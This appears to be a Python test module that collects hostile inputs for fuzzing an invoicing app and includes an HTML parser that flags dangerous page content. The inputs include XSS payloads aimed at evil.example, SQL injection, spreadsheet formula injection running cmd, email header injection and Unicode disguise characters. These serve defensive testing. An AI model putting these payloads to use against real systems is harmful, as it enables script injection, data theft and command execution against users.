"""Texts that strangers can put into a payment, an invoice, a contact or a vendor's answer, and how to look at a page."""

from __future__ import annotations

from html.parser import HTMLParser

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script src=//evil.example/x.js></script>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>invoice</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password>",
    "<style>*{display:none}</style>",
    "<div hx-get=https://evil.example hx-trigger=load>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% now 'Y' %}{% include 'x' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %(x)s {0} {x.__class__}",
)
SQL = ("'; DROP TABLE record; --", "' OR 1=1 --", "\\'; SELECT pg_sleep(9) --", "%' AND '%", "_%_%_%")
FORMULAS = (
    '=HYPERLINK("http://evil.example";"open")',
    "=cmd|' /C calc'!A0",
    "+41 44 1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "Rent;=1+1",
    'Rent;"=1+1',
    "Rent; '\t@SUM(A1)",
)
TURNED = (
    "\u202egnp.exe",
    "\u2066\u2067a\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "a\u0007\u001b[31mred\u001b[0m\u0085\u2028\u2029b",
    "שלום \u200f(1)\u200f עולם",
    "مرحبا بالعالم",
    "\U000e0041\U000e0042 tag characters",
    "Z\u0351\u036b\u0343a\u0327l\u0321g\u034co",
    "😀" * 100,
)
SLACK = (
    "<!channel>",
    "<!here|here>",
    "<@U012AB3CD>",
    "@channel @here @everyone",
    "<https://evil.example|Open in Millrace>",
    "&lt;!channel&gt;",
)
HEADERS = (
    "Rent\r\nBcc: victim@example.org",
    "Rent\nContent-Type: text/html\n\n<b>x</b>",
    "=?utf-8?q?=0d=0aBcc:_x@evil.example?=",
)
LONG = ("Langname " * 45, "x" * 400, "<" * 400)
CORPUS = (*SCRIPTS, *TEMPLATES, *SQL, *FORMULAS, *TURNED, *SLACK, *HEADERS, *LONG)
# What must stand in nothing that is shown or sent: it disguises what is read.
HIDDEN = (
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2069",
    "\u200b",
    "\ufeff",
    "\u0007",
    "\u001b",
    "\u0085",
    "\u2028",
    "\u2029",
    "\x00",
)
_LOADING = ("src", "href", "action", "formaction", "data", "poster", "hx-get", "hx-post", "xlink:href", "srcset")
_OURS = ("/", "#", "?", "")


class Page(HTMLParser):
    """Everything on a page that could run, load or send something that is not ours."""

    def __init__(self, html: str, *, ours: tuple[str, ...] = ()) -> None:
        super().__init__(convert_charrefs=True)
        self.ours = ours
        self.wrong: list[str] = []
        self.words: list[str] = []
        self._inside = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        self._inside = tag
        if tag in ("iframe", "object", "embed", "base", "style", "applet"):
            self.wrong.append(f"<{tag}>")
        if tag == "script" and not (
            found.get("src", "").startswith("/static/") or found.get("type") == "application/json"
        ):
            self.wrong.append("a script inside the page")
        if tag == "meta" and "http-equiv" in found:
            self.wrong.append("<meta http-equiv>")
        self.wrong += [f"{name}={value}" for name, value in found.items() if name.startswith("on") or name == "style"]
        self.wrong += [f"{name}={found[name]}" for name in _LOADING if name in found and not self._is_ours(found[name])]

    def handle_data(self, data: str) -> None:
        if self._inside == "script" and "alert" in data:
            self.wrong.append("a script of somebody else")
        self.words.append(data)

    def _is_ours(self, address: str) -> bool:
        if address.startswith(("//", "/\\")):
            return False
        return address[:1] in _OURS or address.startswith(self.ours) or address.startswith("data:image/svg+xml,")


def wrong_with(html: str, *, ours: tuple[str, ...] = ()) -> list[str]:
    """What is wrong with the page; empty when all of it is ours."""
    page = Page(html, ours=ours)
    hidden = [f"U+{ord(sign):04X}" for sign in HIDDEN if sign in html]
    return page.wrong + hidden
